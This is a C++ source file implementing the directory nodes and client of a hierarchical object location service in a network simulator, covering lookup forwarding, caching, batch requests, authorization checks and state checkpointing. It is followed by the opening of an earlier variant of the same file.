#include "src/gls/directory.h"

#include <algorithm>

#include "src/util/log.h"

namespace globe::gls {

namespace {

// Caps for wire-decoded counts: malformed network input must never drive
// unbounded allocation (paper §6.1 availability requirement).
constexpr uint64_t kMaxWireAddresses = 100000;
constexpr uint64_t kMaxWireBatchItems = 100000;

struct AddressRequest {  // gls.insert / gls.delete
  ObjectId oid;
  ContactAddress address;

  Bytes Serialize() const {
    ByteWriter w;
    oid.Serialize(&w);
    address.Serialize(&w);
    return w.Take();
  }
  static Result<AddressRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    AddressRequest request;
    ASSIGN_OR_RETURN(request.oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(request.address, ContactAddress::Deserialize(&r));
    return request;
  }
};

struct BatchAddressRequest {  // gls.insert_batch
  std::vector<std::pair<ObjectId, ContactAddress>> items;

  Bytes Serialize() const {
    ByteWriter w;
    w.WriteVarint(items.size());
    for (const auto& [oid, address] : items) {
      oid.Serialize(&w);
      address.Serialize(&w);
    }
    return w.Take();
  }
  static Result<BatchAddressRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    BatchAddressRequest request;
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    if (count > kMaxWireBatchItems) {
      return InvalidArgument("implausible insert batch size");
    }
    for (uint64_t i = 0; i < count; ++i) {
      ASSIGN_OR_RETURN(ObjectId oid, ObjectId::Deserialize(&r));
      ASSIGN_OR_RETURN(ContactAddress address, ContactAddress::Deserialize(&r));
      request.items.emplace_back(oid, address);
    }
    return request;
  }
};

struct PointerRequest {  // gls.install_ptr / gls.remove_ptr / gls.inval_cache
  ObjectId oid;
  sim::DomainId child_domain = sim::kNoDomain;

  Bytes Serialize() const {
    ByteWriter w;
    oid.Serialize(&w);
    w.WriteU32(child_domain);
    return w.Take();
  }
  static Result<PointerRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    PointerRequest request;
    ASSIGN_OR_RETURN(request.oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(request.child_domain, r.ReadU32());
    return request;
  }
};

struct BatchPointerRequest {  // gls.install_ptr_batch (one child domain, many OIDs)
  sim::DomainId child_domain = sim::kNoDomain;
  std::vector<ObjectId> oids;

  Bytes Serialize() const {
    ByteWriter w;
    w.WriteU32(child_domain);
    w.WriteVarint(oids.size());
    for (const auto& oid : oids) {
      oid.Serialize(&w);
    }
    return w.Take();
  }
  static Result<BatchPointerRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    BatchPointerRequest request;
    ASSIGN_OR_RETURN(request.child_domain, r.ReadU32());
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    if (count > kMaxWireBatchItems) {
      return InvalidArgument("implausible pointer batch size");
    }
    for (uint64_t i = 0; i < count; ++i) {
      ASSIGN_OR_RETURN(ObjectId oid, ObjectId::Deserialize(&r));
      request.oids.push_back(oid);
    }
    return request;
  }
};

struct BatchLookupRequest {  // gls.lookup_batch
  std::vector<ObjectId> oids;
  uint8_t allow_cached = 0;

  Bytes Serialize() const {
    ByteWriter w;
    w.WriteVarint(oids.size());
    for (const auto& oid : oids) {
      oid.Serialize(&w);
    }
    w.WriteU8(allow_cached);
    return w.Take();
  }
  static Result<BatchLookupRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    BatchLookupRequest request;
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    if (count > kMaxWireBatchItems) {
      return InvalidArgument("implausible lookup batch size");
    }
    for (uint64_t i = 0; i < count; ++i) {
      ASSIGN_OR_RETURN(ObjectId oid, ObjectId::Deserialize(&r));
      request.oids.push_back(oid);
    }
    ASSIGN_OR_RETURN(request.allow_cached, r.ReadU8());
    return request;
  }
};

}  // namespace

// gls.lookup wire format; the apex default is effectively +infinity, min()'d with
// the depths en route.
struct LookupWireRequest {
  ObjectId oid;
  uint32_t hops = 0;
  uint8_t phase = 0;  // DirectorySubnode::kPhaseUp / kPhaseDown
  int32_t apex_depth = 1 << 20;
  uint8_t allow_cached = 0;

  Bytes Serialize() const {
    ByteWriter w;
    oid.Serialize(&w);
    w.WriteU32(hops);
    w.WriteU8(phase);
    w.WriteU32(static_cast<uint32_t>(apex_depth));
    w.WriteU8(allow_cached);
    return w.Take();
  }
  static Result<LookupWireRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    LookupWireRequest request;
    ASSIGN_OR_RETURN(request.oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(request.hops, r.ReadU32());
    ASSIGN_OR_RETURN(request.phase, r.ReadU8());
    ASSIGN_OR_RETURN(uint32_t apex, r.ReadU32());
    request.apex_depth = static_cast<int32_t>(apex);
    ASSIGN_OR_RETURN(request.allow_cached, r.ReadU8());
    return request;
  }
};

namespace {

Result<LookupResult> ParseLookupResult(ByteSpan payload) {
  auto response = LookupResponse::Deserialize(payload);
  if (!response.ok()) {
    return response.status();
  }
  return LookupResult{std::move(response->addresses), response->hops,
                      response->found_depth, response->apex_depth,
                      response->from_cache != 0};
}

}  // namespace

Bytes LookupResponse::Serialize() const {
  ByteWriter w;
  w.WriteVarint(addresses.size());
  for (const auto& address : addresses) {
    address.Serialize(&w);
  }
  w.WriteU32(hops);
  w.WriteU32(static_cast<uint32_t>(found_depth));
  w.WriteU32(static_cast<uint32_t>(apex_depth));
  w.WriteU8(from_cache);
  return w.Take();
}

Result<LookupResponse> LookupResponse::Deserialize(ByteSpan data) {
  ByteReader r(data);
  LookupResponse response;
  ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
  if (count > kMaxWireAddresses) {
    return InvalidArgument("implausible address count");
  }
  for (uint64_t i = 0; i < count; ++i) {
    ASSIGN_OR_RETURN(ContactAddress address, ContactAddress::Deserialize(&r));
    response.addresses.push_back(address);
  }
  ASSIGN_OR_RETURN(response.hops, r.ReadU32());
  ASSIGN_OR_RETURN(uint32_t found, r.ReadU32());
  response.found_depth = static_cast<int32_t>(found);
  ASSIGN_OR_RETURN(uint32_t apex, r.ReadU32());
  response.apex_depth = static_cast<int32_t>(apex);
  ASSIGN_OR_RETURN(response.from_cache, r.ReadU8());
  return response;
}

DirectorySubnode::DirectorySubnode(sim::Transport* transport, sim::NodeId host,
                                   sim::DomainId domain, int depth, GlsOptions options,
                                   const sec::KeyRegistry* registry, uint64_t rng_seed)
    : server_(transport, host, sim::kPortGls),
      client_(std::make_unique<sim::RpcClient>(transport, host)),
      clock_(transport->simulator()),
      domain_(domain),
      depth_(depth),
      options_(options),
      registry_(registry),
      rng_(rng_seed),
      cache_(options.cache_ttl, options.cache_max_entries) {
  server_.RegisterAsyncMethod("gls.lookup", [this](const sim::RpcContext& ctx, ByteSpan req,
                                                   sim::RpcServer::Responder respond) {
    HandleLookup(ctx, req, std::move(respond));
  });
  server_.RegisterAsyncMethod("gls.lookup_batch",
                              [this](const sim::RpcContext& ctx, ByteSpan req,
                                     sim::RpcServer::Responder respond) {
                                HandleLookupBatch(ctx, req, std::move(respond));
                              });
  server_.RegisterAsyncMethod("gls.insert", [this](const sim::RpcContext& ctx, ByteSpan req,
                                                   sim::RpcServer::Responder respond) {
    HandleInsert(ctx, req, std::move(respond));
  });
  server_.RegisterAsyncMethod("gls.insert_batch",
                              [this](const sim::RpcContext& ctx, ByteSpan req,
                                     sim::RpcServer::Responder respond) {
                                HandleInsertBatch(ctx, req, std::move(respond));
                              });
  server_.RegisterAsyncMethod("gls.delete", [this](const sim::RpcContext& ctx, ByteSpan req,
                                                   sim::RpcServer::Responder respond) {
    HandleDelete(ctx, req, std::move(respond));
  });
  server_.RegisterAsyncMethod("gls.install_ptr",
                              [this](const sim::RpcContext& ctx, ByteSpan req,
                                     sim::RpcServer::Responder respond) {
                                HandleInstallPtr(ctx, req, std::move(respond));
                              });
  server_.RegisterAsyncMethod("gls.install_ptr_batch",
                              [this](const sim::RpcContext& ctx, ByteSpan req,
                                     sim::RpcServer::Responder respond) {
                                HandleInstallPtrBatch(ctx, req, std::move(respond));
                              });
  server_.RegisterAsyncMethod("gls.remove_ptr",
                              [this](const sim::RpcContext& ctx, ByteSpan req,
                                     sim::RpcServer::Responder respond) {
                                HandleRemovePtr(ctx, req, std::move(respond));
                              });
  server_.RegisterAsyncMethod("gls.inval_cache",
                              [this](const sim::RpcContext& ctx, ByteSpan req,
                                     sim::RpcServer::Responder respond) {
                                HandleInvalCache(ctx, req, std::move(respond));
                              });
  server_.RegisterMethod("gls.alloc_oid",
                         [this](const sim::RpcContext&, ByteSpan) -> Result<Bytes> {
                           ByteWriter w;
                           ObjectId::Generate(&rng_).Serialize(&w);
                           return w.Take();
                         });
}

Status DirectorySubnode::CheckAuthorized(const sim::RpcContext& context) const {
  if (!options_.enforce_authorization) {
    return OkStatus();
  }
  if (registry_ == nullptr) {
    return Internal("authorization enforced but no key registry configured");
  }
  if (context.peer_principal == sec::kAnonymous || !context.integrity_protected) {
    return PermissionDenied("GLS registration requires an authenticated channel");
  }
  auto role = registry_->RoleOf(context.peer_principal);
  if (!role.ok()) {
    return PermissionDenied("unknown principal");
  }
  if (*role != sec::Role::kGdnHost && *role != sec::Role::kAdministrator) {
    return PermissionDenied("caller is not a GDN host");
  }
  return OkStatus();
}

size_t DirectorySubnode::NumAddresses(const ObjectId& oid) const {
  auto it = addresses_.find(oid);
  return it == addresses_.end() ? 0 : it->second.size();
}

size_t DirectorySubnode::NumPointers(const ObjectId& oid) const {
  auto it = pointers_.find(oid);
  return it == pointers_.end() ? 0 : it->second.size();
}

size_t DirectorySubnode::TotalEntries() const {
  size_t total = 0;
  for (const auto& [oid, addresses] : addresses_) {
    total += addresses.size();
  }
  for (const auto& [oid, pointers] : pointers_) {
    total += pointers.size();
  }
  return total;
}

void DirectorySubnode::InvalidateCached(const ObjectId& oid) {
  if (options_.enable_cache && cache_.Invalidate(oid, clock_->Now())) {
    ++stats_.cache_invalidations;
  }
}

void DirectorySubnode::HandleLookup(const sim::RpcContext&, ByteSpan request,
                                    sim::RpcServer::Responder respond) {
  ++stats_.lookups;
  auto parsed = LookupWireRequest::Deserialize(request);
  if (!parsed.ok()) {
    respond(parsed.status());
    return;
  }
  ResolveLookup(*parsed, std::move(respond));
}

void DirectorySubnode::ResolveLookup(LookupWireRequest req,
                                     sim::RpcServer::Responder respond) {
  req.apex_depth = std::min(req.apex_depth, depth_);

  // Contact address here: done. Authoritative state always wins over the cache.
  if (auto it = addresses_.find(req.oid); it != addresses_.end() && !it->second.empty()) {
    ++stats_.found_local;
    LookupResponse response;
    response.addresses = it->second;
    response.hops = req.hops;
    response.found_depth = depth_;
    response.apex_depth = req.apex_depth;
    respond(response.Serialize());
    return;
  }

  // Cached answer from an earlier descent: done, without re-walking the pointer
  // chain. Cached entries never exist unless this node held a forwarding pointer
  // when they were stored, and every mutation touching the OID here drops them.
  if (options_.enable_cache && req.allow_cached != 0) {
    if (const LookupCache::Entry* entry = cache_.Get(req.oid, clock_->Now())) {
      ++stats_.cache_hits;
      LookupResponse response;
      response.addresses = entry->addresses;
      response.hops = req.hops;
      response.found_depth = entry->found_depth;
      response.apex_depth = req.apex_depth;
      response.from_cache = 1;
      respond(response.Serialize());
      return;
    }
    ++stats_.cache_misses;
  }

  // Forwarding pointer here: descend into one child subtree, chosen at random if
  // several replicas exist in different children (paper §3.5). The returned contact
  // addresses populate this subnode's lookup cache.
  if (auto it = pointers_.find(req.oid); it != pointers_.end() && !it->second.empty()) {
    const auto& children = it->second;
    size_t pick = static_cast<size_t>(rng_.UniformInt(children.size()));
    auto child_it = children.begin();
    std::advance(child_it, pick);
    auto ref_it = children_.find(*child_it);
    if (ref_it == children_.end() || ref_it->second.empty()) {
      respond(Internal("forwarding pointer to unknown child directory"));
      return;
    }
    ++stats_.forwards_down;
    LookupWireRequest forward = req;
    forward.phase = kPhaseDown;
    ++forward.hops;
    client_->Call(ref_it->second.Route(req.oid), "gls.lookup", forward.Serialize(),
                  [this, oid = req.oid,
                   respond = std::move(respond)](Result<Bytes> result) {
                    if (options_.enable_cache && result.ok()) {
                      auto response = LookupResponse::Deserialize(*result);
                      // Only authoritative answers enter the cache: re-caching a
                      // descendant's cache hit would restart the TTL and compound
                      // staleness to depth x TTL.
                      if (response.ok() && !response->addresses.empty() &&
                          response->from_cache == 0) {
                        cache_.Put(oid, std::move(response->addresses),
                                   response->found_depth, clock_->Now());
                      }
                    }
                    respond(std::move(result));
                  });
    return;
  }

  // Nothing local. Going down this should not happen; going up we continue to the
  // parent until the root gives a definitive answer.
  if (req.phase == kPhaseDown) {
    respond(Internal("broken forwarding chain at depth " + std::to_string(depth_)));
    return;
  }
  if (parent_.empty()) {
    respond(NotFound("object not registered: " + req.oid.ToHex()));
    return;
  }
  ++stats_.forwards_up;
  LookupWireRequest forward = req;
  ++forward.hops;
  client_->Call(parent_.Route(req.oid), "gls.lookup", forward.Serialize(),
                [respond = std::move(respond)](Result<Bytes> result) {
                  respond(std::move(result));
                });
}

void DirectorySubnode::HandleLookupBatch(const sim::RpcContext&, ByteSpan request,
                                         sim::RpcServer::Responder respond) {
  ++stats_.batch_lookups;
  auto parsed = BatchLookupRequest::Deserialize(request);
  if (!parsed.ok()) {
    respond(parsed.status());
    return;
  }
  if (parsed->oids.empty()) {
    ByteWriter w;
    w.WriteVarint(0);
    respond(w.Take());
    return;
  }

  struct BatchState {
    std::vector<Result<Bytes>> results;
    size_t remaining = 0;
    sim::RpcServer::Responder respond;
  };
  auto state = std::make_shared<BatchState>();
  state->results.assign(parsed->oids.size(), Result<Bytes>(Unavailable("pending")));
  state->remaining = parsed->oids.size();
  state->respond = std::move(respond);

  for (size_t i = 0; i < parsed->oids.size(); ++i) {
    ++stats_.lookups;
    LookupWireRequest item;
    item.oid = parsed->oids[i];
    item.allow_cached = parsed->allow_cached;
    ResolveLookup(item, [state, i](Result<Bytes> result) {
      state->results[i] = std::move(result);
      if (--state->remaining > 0) {
        return;
      }
      ByteWriter w;
      w.WriteVarint(state->results.size());
      for (const auto& item_result : state->results) {
        if (item_result.ok()) {
          w.WriteU8(0);
          w.WriteLengthPrefixed(*item_result);
        } else {
          w.WriteU8(static_cast<uint8_t>(item_result.status().code()));
          w.WriteString(item_result.status().message());
        }
      }
      state->respond(w.Take());
    });
  }
}

void DirectorySubnode::HandleInsert(const sim::RpcContext& context, ByteSpan request,
                                    sim::RpcServer::Responder respond) {
  if (Status s = CheckAuthorized(context); !s.ok()) {
    ++stats_.denied;
    respond(s);
    return;
  }
  auto parsed = AddressRequest::Deserialize(request);
  if (!parsed.ok()) {
    respond(parsed.status());
    return;
  }
  ++stats_.inserts;
  InvalidateCached(parsed->oid);
  auto& at_oid = addresses_[parsed->oid];
  if (std::find(at_oid.begin(), at_oid.end(), parsed->address) == at_oid.end()) {
    at_oid.push_back(parsed->address);
  }
  PropagatePointerUp(parsed->oid, std::move(respond));
}

void DirectorySubnode::HandleInsertBatch(const sim::RpcContext& context, ByteSpan request,
                                         sim::RpcServer::Responder respond) {
  if (Status s = CheckAuthorized(context); !s.ok()) {
    ++stats_.denied;
    respond(s);
    return;
  }
  auto parsed = BatchAddressRequest::Deserialize(request);
  if (!parsed.ok()) {
    respond(parsed.status());
    return;
  }
  ++stats_.batch_inserts;
  std::vector<ObjectId> to_propagate;
  std::set<ObjectId> seen;
  for (const auto& [oid, address] : parsed->items) {
    ++stats_.inserts;
    InvalidateCached(oid);
    auto& at_oid = addresses_[oid];
    if (std::find(at_oid.begin(), at_oid.end(), address) == at_oid.end()) {
      at_oid.push_back(address);
    }
    if (seen.insert(oid).second) {
      to_propagate.push_back(oid);
    }
  }
  PropagatePointerUpBatch(to_propagate, std::move(respond));
}

void DirectorySubnode::PropagatePointerUp(const ObjectId& oid,
                                          sim::RpcServer::Responder respond) {
  if (parent_.empty()) {
    respond(Bytes{});
    return;
  }
  PointerRequest up{oid, domain_};
  client_->Call(parent_.Route(oid), "gls.install_ptr", up.Serialize(),
                [respond = std::move(respond)](Result<Bytes> result) {
                  respond(std::move(result));
                });
}

void DirectorySubnode::PropagatePointerUpBatch(const std::vector<ObjectId>& oids,
                                               sim::RpcServer::Responder respond) {
  if (parent_.empty() || oids.empty()) {
    respond(Bytes{});
    return;
  }
  // One install_ptr_batch message per parent subnode the OIDs hash to.
  std::map<size_t, std::vector<ObjectId>> groups;
  for (const ObjectId& oid : oids) {
    groups[parent_.SubnodeIndex(oid)].push_back(oid);
  }
  auto remaining = std::make_shared<size_t>(groups.size());
  auto first_error = std::make_shared<Status>(OkStatus());
  auto shared_respond =
      std::make_shared<sim::RpcServer::Responder>(std::move(respond));
  for (auto& [subnode_index, group] : groups) {
    BatchPointerRequest up{domain_, std::move(group)};
    client_->Call(parent_.subnodes[subnode_index], "gls.install_ptr_batch",
                  up.Serialize(),
                  [remaining, first_error, shared_respond](Result<Bytes> result) {
                    if (!result.ok() && first_error->ok()) {
                      *first_error = result.status();
                    }
                    if (--*remaining > 0) {
                      return;
                    }
                    if (first_error->ok()) {
                      (*shared_respond)(Bytes{});
                    } else {
                      (*shared_respond)(*first_error);
                    }
                  });
  }
}

void DirectorySubnode::HandleInstallPtr(const sim::RpcContext& context, ByteSpan request,
                                        sim::RpcServer::Responder respond) {
  if (Status s = CheckAuthorized(context); !s.ok()) {
    ++stats_.denied;
    respond(s);
    return;
  }
  auto parsed = PointerRequest::Deserialize(request);
  if (!parsed.ok()) {
    respond(parsed.status());
    return;
  }
  ++stats_.pointer_installs;
  InvalidateCached(parsed->oid);
  bool was_new = pointers_[parsed->oid].insert(parsed->child_domain).second;
  if (!was_new || parent_.empty()) {
    // The chain above already exists (or we are the root): done.
    respond(Bytes{});
    return;
  }
  PropagatePointerUp(parsed->oid, std::move(respond));
}

void DirectorySubnode::HandleInstallPtrBatch(const sim::RpcContext& context,
                                             ByteSpan request,
                                             sim::RpcServer::Responder respond) {
  if (Status s = CheckAuthorized(context); !s.ok()) {
    ++stats_.denied;
    respond(s);
    return;
  }
  auto parsed = BatchPointerRequest::Deserialize(request);
  if (!parsed.ok()) {
    respond(parsed.status());
    return;
  }
  std::vector<ObjectId> continue_up;
  for (const ObjectId& oid : parsed->oids) {
    ++stats_.pointer_installs;
    InvalidateCached(oid);
    if (pointers_[oid].insert(parsed->child_domain).second) {
      continue_up.push_back(oid);
    }
  }
  // Only freshly installed pointers need the chain extended above us.
  PropagatePointerUpBatch(continue_up, std::move(respond));
}

void DirectorySubnode::HandleDelete(const sim::RpcContext& context, ByteSpan request,
                                    sim::RpcServer::Responder respond) {
  if (Status s = CheckAuthorized(context); !s.ok()) {
    ++stats_.denied;
    respond(s);
    return;
  }
  auto parsed = AddressRequest::Deserialize(request);
  if (!parsed.ok()) {
    respond(parsed.status());
    return;
  }
  ++stats_.deletes;
  auto it = addresses_.find(parsed->oid);
  if (it == addresses_.end()) {
    respond(NotFound("no such contact address registered"));
    return;
  }
  auto& at_oid = it->second;
  auto pos = std::find(at_oid.begin(), at_oid.end(), parsed->address);
  if (pos == at_oid.end()) {
    respond(NotFound("no such contact address registered"));
    return;
  }
  at_oid.erase(pos);
  InvalidateCached(parsed->oid);
  if (!at_oid.empty()) {
    // Other addresses remain here; the chain stays, but ancestor caches must not
    // keep serving the removed address.
    PropagateInvalUp(parsed->oid, std::move(respond));
    return;
  }
  addresses_.erase(it);
  // No addresses left here; if no pointers either, prune the chain above.
  if (NumPointers(parsed->oid) > 0) {
    PropagateInvalUp(parsed->oid, std::move(respond));
    return;
  }
  PropagateRemoveUp(parsed->oid, std::move(respond));
}

void DirectorySubnode::PropagateRemoveUp(const ObjectId& oid,
                                         sim::RpcServer::Responder respond) {
  if (parent_.empty()) {
    respond(Bytes{});
    return;
  }
  PointerRequest up{oid, domain_};
  client_->Call(parent_.Route(oid), "gls.remove_ptr", up.Serialize(),
                [respond = std::move(respond)](Result<Bytes> result) {
                  respond(std::move(result));
                });
}

void DirectorySubnode::PropagateInvalUp(const ObjectId& oid,
                                        sim::RpcServer::Responder respond) {
  // Without caching there is nothing stale above us: keep the old single-message
  // delete cost. With caching, the chain runs to the root so no ancestor can serve
  // the deregistered address from its cache.
  if (!options_.enable_cache || parent_.empty()) {
    respond(Bytes{});
    return;
  }
  PointerRequest up{oid, domain_};
  client_->Call(parent_.Route(oid), "gls.inval_cache", up.Serialize(),
                [respond = std::move(respond)](Result<Bytes> result) {
                  respond(std::move(result));
                });
}

void DirectorySubnode::HandleInvalCache(const sim::RpcContext& context, ByteSpan request,
                                        sim::RpcServer::Responder respond) {
  // Cache purges are mutations of serving state: same authorization as the other
  // internal chain methods (a cached answer must never outlive a delete, but an
  // unauthenticated peer must not be able to flush caches either).
  if (Status s = CheckAuthorized(context); !s.ok()) {
    ++stats_.denied;
    respond(s);
    return;
  }
  auto parsed = PointerRequest::Deserialize(request);
  if (!parsed.ok()) {
    respond(parsed.status());
    return;
  }
  InvalidateCached(parsed->oid);
  PropagateInvalUp(parsed->oid, std::move(respond));
}

void DirectorySubnode::HandleRemovePtr(const sim::RpcContext& context, ByteSpan request,
                                       sim::RpcServer::Responder respond) {
  if (Status s = CheckAuthorized(context); !s.ok()) {
    ++stats_.denied;
    respond(s);
    return;
  }
  auto parsed = PointerRequest::Deserialize(request);
  if (!parsed.ok()) {
    respond(parsed.status());
    return;
  }
  ++stats_.pointer_removes;
  InvalidateCached(parsed->oid);
  auto it = pointers_.find(parsed->oid);
  if (it != pointers_.end()) {
    it->second.erase(parsed->child_domain);
    if (it->second.empty()) {
      pointers_.erase(it);
    }
  }
  if (NumPointers(parsed->oid) == 0 && NumAddresses(parsed->oid) == 0) {
    PropagateRemoveUp(parsed->oid, std::move(respond));
    return;
  }
  // The chain stops pruning here, but ancestors may still cache the removed
  // subtree's addresses.
  PropagateInvalUp(parsed->oid, std::move(respond));
}

Bytes DirectorySubnode::SaveState() const {
  ByteWriter w;
  w.WriteVarint(addresses_.size());
  for (const auto& [oid, at_oid] : addresses_) {
    oid.Serialize(&w);
    w.WriteVarint(at_oid.size());
    for (const auto& address : at_oid) {
      address.Serialize(&w);
    }
  }
  w.WriteVarint(pointers_.size());
  for (const auto& [oid, children] : pointers_) {
    oid.Serialize(&w);
    w.WriteVarint(children.size());
    for (sim::DomainId child : children) {
      w.WriteU32(child);
    }
  }
  cache_.Serialize(&w);
  return w.Take();
}

Status DirectorySubnode::RestoreState(ByteSpan data) {
  ByteReader r(data);
  std::map<ObjectId, std::vector<ContactAddress>> addresses;
  std::map<ObjectId, std::set<sim::DomainId>> pointers;

  auto num_oids = r.ReadVarint();
  if (!num_oids.ok()) {
    return num_oids.status();
  }
  for (uint64_t i = 0; i < *num_oids; ++i) {
    ASSIGN_OR_RETURN(ObjectId oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    auto& at_oid = addresses[oid];
    for (uint64_t j = 0; j < count; ++j) {
      ASSIGN_OR_RETURN(ContactAddress address, ContactAddress::Deserialize(&r));
      at_oid.push_back(address);
    }
  }
  ASSIGN_OR_RETURN(uint64_t num_ptr_oids, r.ReadVarint());
  for (uint64_t i = 0; i < num_ptr_oids; ++i) {
    ASSIGN_OR_RETURN(ObjectId oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    auto& children = pointers[oid];
    for (uint64_t j = 0; j < count; ++j) {
      ASSIGN_OR_RETURN(uint32_t child, r.ReadU32());
      children.insert(child);
    }
  }
  // Cache section: absent in checkpoints taken before caching existed — an empty
  // cache is always a safe restore state.
  LookupCache cache(options_.cache_ttl, options_.cache_max_entries);
  if (!r.AtEnd()) {
    RETURN_IF_ERROR(cache.Restore(&r));
  }
  addresses_ = std::move(addresses);
  pointers_ = std::move(pointers);
  cache_ = std::move(cache);
  return OkStatus();
}

GlsClient::GlsClient(sim::Transport* transport, sim::NodeId node, DirectoryRef leaf_directory)
    : rpc_(transport, node), leaf_(std::move(leaf_directory)) {}

void GlsClient::Lookup(const ObjectId& oid, LookupCallback done) {
  Lookup(oid, allow_cached_, std::move(done));
}

void GlsClient::Lookup(const ObjectId& oid, bool allow_cached, LookupCallback done) {
  auto target = leaf_.TryRoute(oid);
  if (!target.ok()) {
    done(target.status());
    return;
  }
  LookupWireRequest request;
  request.oid = oid;
  request.allow_cached = allow_cached ? 1 : 0;
  rpc_.Call(*target, "gls.lookup", request.Serialize(),
            [done = std::move(done)](Result<Bytes> result) {
              if (!result.ok()) {
                done(result.status());
                return;
              }
              done(ParseLookupResult(*result));
            });
}

void GlsClient::LookupBatch(const std::vector<ObjectId>& oids, BatchLookupCallback done) {
  if (leaf_.empty()) {
    done(FailedPrecondition("GLS client has no leaf directory"));
    return;
  }
  if (oids.empty()) {
    done(std::vector<Result<LookupResult>>{});
    return;
  }

  struct BatchState {
    std::vector<Result<LookupResult>> results;
    size_t remaining = 0;
    BatchLookupCallback done;
  };
  auto state = std::make_shared<BatchState>();
  state->results.assign(oids.size(), Result<LookupResult>(Unavailable("pending")));
  state->done = std::move(done);

  // One gls.lookup_batch call per leaf subnode the OIDs hash to; results land back
  // in their original positions.
  std::map<size_t, std::vector<size_t>> groups;
  for (size_t i = 0; i < oids.size(); ++i) {
    groups[leaf_.SubnodeIndex(oids[i])].push_back(i);
  }
  state->remaining = groups.size();

  for (auto& [subnode_index, indices] : groups) {
    BatchLookupRequest group_request;
    for (size_t i : indices) {
      group_request.oids.push_back(oids[i]);
    }
    group_request.allow_cached = allow_cached_ ? 1 : 0;
    rpc_.Call(leaf_.subnodes[subnode_index], "gls.lookup_batch", group_request.Serialize(),
              [state, indices = std::move(indices)](Result<Bytes> result) {
                if (!result.ok()) {
                  for (size_t i : indices) {
                    state->results[i] = result.status();
                  }
                } else {
                  ByteReader r(*result);
                  auto count = r.ReadVarint();
                  bool well_formed = count.ok() && *count == indices.size();
                  for (size_t k = 0; well_formed && k < indices.size(); ++k) {
                    auto code = r.ReadU8();
                    if (!code.ok()) {
                      well_formed = false;
                      break;
                    }
                    if (*code == 0) {
                      auto payload = r.ReadLengthPrefixed();
                      if (!payload.ok()) {
                        well_formed = false;
                        break;
                      }
                      state->results[indices[k]] = ParseLookupResult(*payload);
                    } else {
                      auto message = r.ReadString();
                      if (!message.ok() || *code > static_cast<uint8_t>(StatusCode::kDataLoss)) {
                        well_formed = false;
                        break;
                      }
                      state->results[indices[k]] =
                          Status(static_cast<StatusCode>(*code), std::move(*message));
                    }
                  }
                  if (!well_formed) {
                    for (size_t i : indices) {
                      state->results[i] = InvalidArgument("malformed lookup batch response");
                    }
                  }
                }
                if (--state->remaining == 0) {
                  state->done(std::move(state->results));
                }
              });
  }
}

void GlsClient::Insert(const ObjectId& oid, const ContactAddress& address,
                       DoneCallback done) {
  auto target = leaf_.TryRoute(oid);
  if (!target.ok()) {
    done(target.status());
    return;
  }
  AddressRequest request{oid, address};
  rpc_.Call(*target, "gls.insert", request.Serialize(),
            [done = std::move(done)](Result<Bytes> result) {
              done(result.ok() ? OkStatus() : result.status());
            });
}

void GlsClient::InsertBatch(const std::vector<std::pair<ObjectId, ContactAddress>>& items,
                            DoneCallback done) {
  if (leaf_.empty()) {
    done(FailedPrecondition("GLS client has no leaf directory"));
    return;
  }
  if (items.empty()) {
    done(OkStatus());
    return;
  }
  std::map<size_t, BatchAddressRequest> groups;
  for (const auto& item : items) {
    groups[leaf_.SubnodeIndex(item.first)].items.push_back(item);
  }
  auto remaining = std::make_shared<size_t>(groups.size());
  auto first_error = std::make_shared<Status>(OkStatus());
  auto shared_done = std::make_shared<DoneCallback>(std::move(done));
  for (auto& [subnode_index, group] : groups) {
    rpc_.Call(leaf_.subnodes[subnode_index], "gls.insert_batch", group.Serialize(),
              [remaining, first_error, shared_done](Result<Bytes> result) {
                if (!result.ok() && first_error->ok()) {
                  *first_error = result.status();
                }
                if (--*remaining == 0) {
                  (*shared_done)(*first_error);
                }
              });
  }
}

void GlsClient::Delete(const ObjectId& oid, const ContactAddress& address,
                       DoneCallback done) {
  auto target = leaf_.TryRoute(oid);
  if (!target.ok()) {
    done(target.status());
    return;
  }
  AddressRequest request{oid, address};
  rpc_.Call(*target, "gls.delete", request.Serialize(),
            [done = std::move(done)](Result<Bytes> result) {
              done(result.ok() ? OkStatus() : result.status());
            });
}

void GlsClient::AllocateOid(OidCallback done) {
  if (leaf_.empty()) {
    done(FailedPrecondition("GLS client has no leaf directory"));
    return;
  }
  // Any subnode can allocate; spread the load by picking pseudo-randomly via a
  // generated id's own hash.
  rpc_.Call(leaf_.subnodes.front(), "gls.alloc_oid", {},
            [done = std::move(done)](Result<Bytes> result) {
              if (!result.ok()) {
                done(result.status());
                return;
              }
              ByteReader r(*result);
              done(ObjectId::Deserialize(&r));
            });
}

}  // namespace globe::gls
