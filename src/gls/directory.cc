#include "src/gls/directory.h"

#include <algorithm>

#include "src/util/log.h"

namespace globe::gls {

namespace {

struct LookupRequest {
  ObjectId oid;
  uint32_t hops = 0;
  uint8_t phase = 0;  // kPhaseUp / kPhaseDown
  int32_t apex_depth = 0;

  Bytes Serialize() const {
    ByteWriter w;
    oid.Serialize(&w);
    w.WriteU32(hops);
    w.WriteU8(phase);
    w.WriteU32(static_cast<uint32_t>(apex_depth));
    return w.Take();
  }
  static Result<LookupRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    LookupRequest request;
    ASSIGN_OR_RETURN(request.oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(request.hops, r.ReadU32());
    ASSIGN_OR_RETURN(request.phase, r.ReadU8());
    ASSIGN_OR_RETURN(uint32_t apex, r.ReadU32());
    request.apex_depth = static_cast<int32_t>(apex);
    return request;
  }
};

struct AddressRequest {  // gls.insert / gls.delete
  ObjectId oid;
  ContactAddress address;

